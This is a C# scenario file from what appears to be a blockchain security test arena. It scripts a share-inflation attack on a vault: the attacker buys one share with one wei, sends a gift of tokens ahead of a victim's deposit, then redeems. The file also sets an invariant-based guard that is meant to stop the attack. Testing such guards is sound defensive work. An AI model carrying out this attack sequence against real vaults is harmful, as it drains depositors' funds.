using Cordon.Arena.Bindings;
using Cordon.Arena.Chain;
using Cordon.Arena.Community;
using Cordon.Arena.Deployment;
using Cordon.Arena.Guards;
using Cordon.Arena.Scenes;
using Cordon.Ethereum;

namespace Cordon.Arena.Scenarios.ShareInflation;

/// <summary>One wei buys the only share; a gift ahead of the victim's deposit; the share is cashed.</summary>
internal sealed class ShareInflationPlay(Stage stage, Address vault, EnrolledProtocol? enrolled, ArenaAccount thief)
    : SitePlay(stage)
{
    private static readonly UInt256 Deposited = Deployer.Ether(40);

    private UInt256 _victimBefore;

    private ArenaAccount Victim => Stage.Traders[0];

    /// <remarks>Quarantine would be no help: the gift is a plain transfer of another contract's token, and what has to
    /// stop is the victim's deposit.</remarks>
    public override Protection? Protection => enrolled is null ? null : new Protection(enrolled, [vault])
    {
        CanQuarantine = false,
        PauseBelief = 0.8,
        Invariants =
        [
            new ArenaInvariant(
                "share price",
                [("assets", $"{vault}.totalAssets()(uint256)"), ("shares", $"{vault}.totalSupply()(uint256)")],
                "assets <= 2 * shares + 1000"),
        ],
    };

    public override async Task RunAsync(CancellationToken cancellation = default)
    {
        await MineAsync(cancellation);
        await StrikeAsync(
            thief, vault, new ShareVault.DepositCall(1, thief.Address), "buys the first share",
            role: TransactionRole.Preparation, cancellation: cancellation);
        await MineAsync(cancellation);
        await MineAsync(cancellation);

        _victimBefore = await WorthAsync(cancellation);
        Act deposit = Act.Call(
            Victim, vault, new ShareVault.DepositCall(Deposited, Victim.Address), $"{Victim.Name} deposits");
        await Chain.SendAsync(deposit with { Role = TransactionRole.Victim }, cancellation);
        await StrikeAsync(
            thief, Stage.World.Weth, new TestToken.TransferCall(vault, Deposited), "gives the vault as much",
            cancellation: cancellation);
        await Chain.MineAsync(cancellation); // no swaps: the victim's WETH is what is counted

        await StrikeAsync(
            thief, vault, new ShareVault.RedeemCall(1, thief.Address, thief.Address), "cashes the share",
            cancellation: cancellation);
        await Chain.MineAsync(cancellation);
    }

    public override async Task<Amount> LossAsync(CancellationToken cancellation = default) =>
        Amount.Missing(_victimBefore, await WorthAsync(cancellation), "WETH");

    // In hand, and what its shares are worth.
    private async Task<UInt256> WorthAsync(CancellationToken cancellation)
    {
        UInt256 shares = await Chain.ReadAsync(vault, new ShareVault.BalanceOfCall(Victim.Address), cancellation);
        return await Balance.OfAsync(Stage, Stage.World.Weth, Victim.Address, cancellation)
            + await Chain.ReadAsync(vault, new ShareVault.ConvertToAssetsCall(shares), cancellation);
    }
}
